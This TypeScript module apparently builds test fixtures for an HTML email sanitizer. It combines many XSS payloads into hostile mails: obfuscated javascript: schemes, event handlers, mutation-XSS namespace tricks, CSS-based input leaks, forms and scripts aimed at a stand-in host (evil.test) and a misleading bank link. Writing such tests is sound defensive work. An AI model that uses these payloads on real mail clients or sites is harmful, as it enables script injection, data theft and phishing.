// HTML that wants to run, load, send, leave or cover. Each piece has a number: JS calls `ran(number)`, and every address
// is on a host with the number in its name, so that whatever gets through says which it was.

const handlers = 'onload onerror onclick onfocus ontoggle onanimationstart onbegin onpointerover'.split(' ')
const elements = 'a img svg body video input details iframe object embed math marquee button form x-y'.split(
  ' ',
)
const schemes = [
  'javascript:JS',
  'JaVa&Tab;ScRiPt&colon;JS',
  '&#1;java\nscript:JS',
  '&#0000106avascript:JS',
  '\ufeffjavascript:JS',
  'javascript://HOST/%0aJS',
  'vbscript:JS',
  'data:text/html,<script>JS</script>',
  'data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;JS&quot;/>',
  'http://HOST/',
  '//HOST/',
  '\\\\HOST\\',
  '/\\HOST/',
  '/api/v1/me',
  'cid:&quot;><img src=x onerror=JS>',
]
const places = [
  ...[
    'a href',
    'a target=_self href',
    'a target=_top rel=opener href',
    'a href=x ping',
    'area href',
    'base href',
  ],
  ...['link rel=stylesheet href', 'link rel=preconnect href', 'link rel=dns-prefetch href'],
  ...[
    'img src',
    'img srcset',
    'img data-remote-src',
    'picture><source srcset',
    'video poster',
    'audio autoplay src',
  ],
  ...['iframe src', 'object data', 'embed src', 'form action', 'form><button formaction', 'td background'],
  ...['body background', 'input type=image src', 'svg><use href', 'svg><image href', 'svg><a xlink:href'],
  ...['meta http-equiv=refresh content="0;url=HOST" data-x', 'math href', 'script src', 'blockquote cite'],
]
const styles = [
  'background:url(http://HOST/)',
  'background:u\\72l(//HOST/)',
  'background:image-set("http://HOST/" 1x)',
  'list-style:url(//HOST/)',
  'width:expression(JS)',
  'position:fixed;inset:0;z-index:9;background:red',
  'height:99999999px',
  'margin:-9999px;width:99999vw',
  'color:red}*{background:url(//HOST/)}',
]
const confusing = [
  '<math><mtext><table><mglyph><style>',
  '<svg><style>',
  '<svg><desc><noscript>',
  '<form><math><mtext></form><form><mglyph><style>',
]
const raw = [
  '<noscript>',
  '<template>',
  '<textarea>',
  '<title>',
  '<xmp>',
  '<select><style>',
  '<!--',
  '<![CDATA[',
  '<iframe srcdoc="',
]
const endings = [
  '<img src=x onerror=JS>',
  '</style><img src=x onerror=JS>',
  '<a id="</style></noscript></textarea></title></xmp>--&gt;<img src=x onerror=JS>">',
  '--><svg onload=JS>',
]
const others = [
  '<style>@import "http://HOST/";*{background:url(//HOST/)}</style>',
  '<style>@font-face{font-family:a;src:url(//HOST/)}*{font-family:a}input[value^=a]{background:url(//HOST/)}</style><input value=a>',
  '<iframe srcdoc="<script>parent.JS;top.JS</script>"></iframe>',
  '<form name=body><input name=querySelectorAll autofocus onfocus=JS></form><img name=getElementById>',
  '<form action="http://HOST/" target=_top><input name=a value=b><input type=submit></form>',
  '<meta http-equiv=Content-Security-Policy content="script-src *"><script src="http://HOST/"></script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://HOST/"]}]}</script>',
  '<a href="http://HOST/" title="https://bank.test/">https://bank.test/login</a>',
  `${'<div>'.repeat(600)}<svg><style><img src=x onerror=JS>`,
]

const templates = [
  ...elements.flatMap((name) =>
    handlers.map((on) => `<${name} ${on}=JS src=x data=x autofocus tabindex=1 open>x</${name}>`),
  ),
  ...places.flatMap((place) =>
    schemes.map((address) => `<${place}="${address}">x</${/^\w+/.exec(place)![0]}>`),
  ),
  ...styles.map((style) => `<div style='${style}'>x</div>`),
  ...[...confusing, ...raw].flatMap((start) => endings.map((end) => start + end)),
  ...others,
]

/** Closes whatever a piece has left open, and shows that it was there. */
const end = (i: number) =>
  `"'></style></script></title></textarea></xmp></noscript></template></select></svg></math></form></iframe>--><p title="end-${i}">.</p>`

/** The pieces, so many in a mail. */
export function hostileMails(each: number): string[] {
  const pieces = templates.map(
    (template, i) => template.replaceAll('JS', `ran(${i})`).replaceAll('HOST', `n${i}.evil.test`) + end(i),
  )
  return Array.from({ length: Math.ceil(pieces.length / each) }, (_, i) =>
    pieces.slice(i * each, (i + 1) * each).join('\n'),
  )
}

export const PIECES = templates.length
